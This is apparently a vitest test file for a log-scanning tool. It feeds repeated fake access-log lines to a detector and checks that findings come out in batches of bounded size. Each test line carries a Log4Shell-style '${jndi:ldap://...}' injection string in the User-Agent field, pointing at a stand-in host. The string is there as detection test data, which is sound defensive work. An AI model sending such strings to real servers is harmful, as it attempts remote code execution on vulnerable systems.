import { expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'
import { ToldEvents } from './told-events.ts'

/** How many events each batch has, of a spray of so many requests to a path of so many letters. */
function batchesOf(requests: number, letters: number): readonly number[] {
  const batches: number[] = []
  const told = new ToldEvents(
    { since: null, until: null },
    (events) => batches.push(events.length),
    () => undefined,
  )
  const line = `203.0.113.7 - - [12/Dec/2021:04:25:41 +0000] "GET /${'x'.repeat(letters)} HTTP/1.1" 200 1 "-" "\${jndi:ldap://a.example/x}"\n`
  for (const finding of huntIn(line.repeat(requests)).findings) told.finding(finding)
  told.flush()
  return batches
}

test('what is found goes on in batches', () => {
  expect(batchesOf(300, 1)).toEqual([128, 128, 44])
})

test('what is long goes on in smaller ones, so that a thread does not hold as much of it', () => {
  const batches = batchesOf(30, 50_000)

  expect(Math.max(...batches)).toBeLessThan(8)
  expect(batches.reduce((sum, events) => sum + events, 0)).toBe(30)
})
